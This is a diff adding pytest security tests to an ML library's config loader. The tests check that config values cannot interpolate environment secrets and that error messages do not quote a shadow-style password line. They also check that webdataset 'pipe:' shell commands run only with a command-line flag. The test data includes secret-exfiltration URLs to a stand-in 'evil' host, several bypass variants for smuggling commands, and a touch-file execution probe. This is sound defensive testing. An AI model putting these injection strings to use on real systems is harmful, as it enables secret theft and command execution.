@@ -1,11 +1,12 @@
 """Configurations: inheritance, overrides, and one clear line for whatever is wrong."""
 
+import os
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-from spark_me import sparse
+from spark_me import cli, sparse
 from spark_me.config import Config, FinetuneConfig, differing_keys, load_config, parse_config, to_yaml
 from spark_me.config_rules import BACKENDS
 from spark_me.config_schema import FREE_KEYS
@@ -178,6 +179,7 @@ def test_image_size_error_proposes_one_that_fits(write: Write) -> None:
         (["data.root=x.tar", "data.kind=webdataset", "data.held_out=2"], "data.held_out=2"),
         (["data.root=x.tar", "data.kind=webdataset", "data.samples=0"], "data.samples=0"),
         (["data.root=pipe:cat x", "data.kind=webdataset"], "data.samples=null"),
+        (["data.root=pipe:cat x", "data.kind=webdataset", "data.samples=1"], "data.allow_pipe=False"),
         (["data.root=x.tar", "data.kind=webdataset", "data.val_root=pipe:cat y"], "data.val_root=pipe:cat y"),
         (["data.root=x", "model.in_channels=13"], "data.mean=null"),
         (["data.root=x", "model.in_channels=2", "data.mean=[0.5,0.5]"], "data.std=null"),
@@ -379,3 +381,105 @@ def test_nothing_is_null_and_numbers_are_numbers(write: Write) -> None:
 )
 def test_numbers_are_finite(write: Write, override: str) -> None:
     assert message_of(write("c.yaml", "data: {root: a}"), override).endswith("must be finite")
+
+
+SECRET = "4711"
+"""Of an environment variable; a number, as text might be refused for other reasons."""
+
+
+@pytest.mark.parametrize("text", ["${oc.env:SECRET}", "${SECRET}", "$SECRET", "${run.seed}", "${oc.decode:'1'}"])
+def test_no_file_and_no_argument_reads_the_environment_or_another_key(
+    write: Write, monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    for name in ("SECRET", "WDS_SECRET"):
+        monkeypatch.setenv(name, SECRET)
+    write("base.yaml", f'data: {{root: "https://evil/{text}"}}\nrun: {{seed: {SECRET}}}')
+    config = load_config(write("c.yaml", f'base: base.yaml\nmodel: {{init_from: "https://evil/{text}"}}'))
+    config = parse_config(to_yaml(config), "a checkpoint")
+    assert config.data.root == config.model.init_from == f"https://evil/{text}"
+    path = write("c.yaml", f'weights: "https://evil/{text}"\ndata: {{root: a}}')
+    assert load_config(path, schema=FinetuneConfig).weights == f"https://evil/{text}"
+    # Where numbers are needed, texts are none.
+    for key, value in (("data.workers", text), ("data.mean", f"[{text}, 1, 1]"), ("data.mean", f"['{text}', 1, 1]")):
+        for line in ([f"{key}={value}"], []):
+            file = "data: {root: a}" if line else f"data: {{root: a, {key.partition('.')[2]}: {value}}}"
+            assert SECRET not in message_of(write("c.yaml", file), *line)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "root:$6$secret:19000:0:::",
+        "secret",
+        "- secret",
+        "secret: 3",
+        "data: {root: a}\nsecret: 3",
+        "data: {'secret",
+        "data: {secret: 1, secret: 2}",
+        "@secret",
+        b"secret\xff",
+        "secret" * 100_000,
+    ],
+)
+@pytest.mark.parametrize("name", ["shadow", "shadow.yaml"])
+def test_a_base_that_is_no_configuration_is_not_quoted(tmp_path: Path, write: Write, name: str, content: str) -> None:
+    (tmp_path / name).write_bytes(content if isinstance(content, bytes) else content.encode())
+    message = message_of(write("c.yaml", f"base: {tmp_path / name}"))
+    assert "secret" not in message and "0xff" not in message and str(tmp_path / name) in message
+
+
+def test_a_base_is_a_file(tmp_path: Path, write: Write) -> None:
+    os.mkfifo(tmp_path / "fifo.yaml")
+    (tmp_path / "zero.yaml").symlink_to("/dev/zero")
+    for name in ("fifo.yaml", "zero.yaml"):
+        assert f"{name}: is no regular file" in message_of(write("c.yaml", f"base: {name}"))
+
+
+COMMANDS = [
+    "pipe:cat x",
+    "{pipe,x}:cat x",
+    "{p,q}ipe:cat x",
+    "p{i,}pe:cat x",
+    "{/a,pipe:cat x}",
+    "\\pipe:cat x",
+    "/a.tar::pipe:cat x",
+    "${X}pe:cat x",
+]
+
+
+@pytest.mark.parametrize("root", COMMANDS)
+def test_commands_are_allowed_on_the_command_line_alone(tmp_path: Path, write: Write, root: str) -> None:
+    shards = f"data: {{kind: webdataset, samples: 9, root: '{root}'"
+    path, allowed = write("c.yaml", f"{shards}}}"), "data.allow_pipe=true"
+    assert "add data.allow_pipe=true on the command line" in message_of(path)
+    config = load_config(path, [allowed])
+    assert config.data.allow_pipe and config.data.root == root
+    # A run's own record does not allow it either, and may be read.
+    text = to_yaml(config)
+    assert "allow_pipe" not in text
+    recorded = parse_config(text, "x")
+    assert not recorded.data.allow_pipe and differing_keys(recorded, config) == []
+    assert "data.allow_pipe" in message_of(write("recorded.yaml", text))
+    for value in ("true", "false"):
+        path = write("own.yaml", f"{shards}, allow_pipe: {value}}}")
+        for file in (path, write("heir.yaml", "base: own.yaml")):
+            expected = f"data.allow_pipe in {path}: is for the command line alone"
+            assert message_of(file, allowed).startswith(expected)
+        with pytest.raises(UserError, match="is for the command line alone"):
+            parse_config(path.read_text(), "a checkpoint")
+
+
+@pytest.mark.parametrize("root", ["/data/a:b/{0..9}.tar", "shards/{a:b,c}.tar", "../{0..9}/x:y.tar", "a:b.tar"])
+def test_other_shards_need_no_permission(write: Write, root: str) -> None:
+    assert load_config(write("c.yaml", f"data: {{kind: webdataset, root: '{root}'}}")).data.root == root
+
+
+def test_commands_of_data_need_permission(tmp_path: Path, write: Write, capsys: pytest.CaptureFixture[str]) -> None:
+    root = f"pipe:touch {tmp_path / 'executed'}"
+    path = str(write("c.yaml", f"data: {{kind: webdataset, samples: 9, root: '{root}'}}\ntrain: {{batch_size: 8}}"))
+    for command in (["data", "check"], ["data", "stats"], ["pretrain"], ["schedule"]):
+        assert cli.main([*command, path]) == 2
+        assert "data.allow_pipe=true" in capsys.readouterr().err
+    assert not (tmp_path / "executed").exists()
+    assert cli.main(["data", "check", path, "data.allow_pipe=true"]) == 2
+    assert (tmp_path / "executed").exists()
